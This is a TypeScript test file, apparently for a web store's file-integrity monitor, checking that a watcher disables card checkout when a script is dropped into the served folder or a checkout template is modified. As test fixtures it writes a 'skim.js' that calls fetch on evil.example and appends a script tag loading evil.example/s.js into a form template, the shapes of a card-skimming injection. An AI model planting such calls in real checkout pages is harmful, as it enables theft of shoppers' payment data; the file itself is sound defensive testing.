import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync, appendFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { projectRoot } from '../../platform/paths.ts';
import { TestClient } from '../../../test/client.ts';
import { startTestStore, type TestStore } from '../../../test/harness.ts';
import { integrityConfig } from '../config.ts';
import { createBaseline } from './manifest.ts';

/**
 * Issue 12, tampering in seconds: with the periodic verification an hour apart, only the file watcher
 * can see a file dropped into the served folder. Never on the real repository: on a copy of the tree.
 */
const work = mkdtempSync(join(tmpdir(), 'omamori-watch-'));
const tree = join(work, 'tree');
const data = join(work, 'data');
let store: TestStore;

before(async () => {
  for (const p of ['src', 'static', 'package.json', 'tsconfig.json']) {
    if (existsSync(join(projectRoot, p))) cpSync(join(projectRoot, p), join(tree, p), { recursive: true });
  }
  process.env.INTEGRITY_ROOT = tree;
  process.env.INTEGRITY_INTERVAL_SECONDS = '3600';
  await createBaseline(integrityConfig({ dataDir: data }));
  store = await startTestStore({ config: { dataDir: data } });
});
after(async () => {
  await store?.close();
  delete process.env.INTEGRITY_ROOT;
  delete process.env.INTEGRITY_INTERVAL_SECONDS;
  rmSync(work, { recursive: true, force: true });
});

async function cardCheckout(): Promise<string> {
  return (await new TestClient(store.url).get('/healthz')).json<{ cardCheckout: string }>().cardCheckout;
}

async function waitFor(what: string, fn: () => Promise<boolean>, timeoutMs = 30_000): Promise<void> {
  const t0 = Date.now();
  while (!(await fn())) {
    if (Date.now() - t0 > timeoutMs) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

test('a script dropped into the served folder turns card checkout off without waiting for the next round', async () => {
  await waitFor('the first round', async () => (await cardCheckout()) === 'enabled');
  assert.equal(store.services.integrity.status().watching, true);
  // Let the watchers settle (the recursive watch lists its folders when it starts).
  await new Promise((r) => setTimeout(r, 500));

  mkdirSync(join(tree, 'static', 'js'), { recursive: true });
  const t0 = Date.now();
  writeFileSync(join(tree, 'static', 'js', 'skim.js'), 'fetch("https://evil.example/c")');
  await waitFor('card checkout off', async () => (await cardCheckout()) === 'disabled');
  console.log(`file watcher: dropped file -> card checkout off in ${((Date.now() - t0) / 1000).toFixed(2)} s`);
  const finding = await store.ctx.db.selectFrom('integrity_finding').selectAll().where('path', '=', 'static/js/skim.js').executeTakeFirstOrThrow();
  assert.equal(finding.kind, 'added');
  const alert = await store.ctx.db.selectFrom('alert').select(['severity', 'title']).where('kind', '=', 'integrity').executeTakeFirstOrThrow();
  assert.equal(alert.severity, 'critical');
  assert.equal(store.services.integrity.status().lastRound?.full, false, 'found by the watcher, not by a full round');
});

test('a modified template is found the same way', async () => {
  const t0 = Date.now();
  appendFileSync(join(tree, 'src', 'checkout', 'views', 'form-page.ts'), '\n// <script src="https://evil.example/s.js"></script>\n');
  await waitFor('the finding', async () => !!(await store.ctx.db.selectFrom('integrity_finding').select('id').where('path', '=', 'src/checkout/views/form-page.ts').where('kind', '=', 'modified').executeTakeFirst()));
  console.log(`file watcher: modified template -> finding in ${((Date.now() - t0) / 1000).toFixed(2)} s`);
  assert.equal(await cardCheckout(), 'disabled');
});

test('a change outside the manifest scope (a log file in the root) is not a finding', async () => {
  const before = (await store.ctx.db.selectFrom('integrity_finding').select('id').execute()).length;
  writeFileSync(join(tree, 'debug.log'), 'x');
  assert.deepEqual(await store.services.integrity.verifyChanged(['debug.log']), []);
  assert.equal((await store.ctx.db.selectFrom('integrity_finding').select('id').execute()).length, before);
});
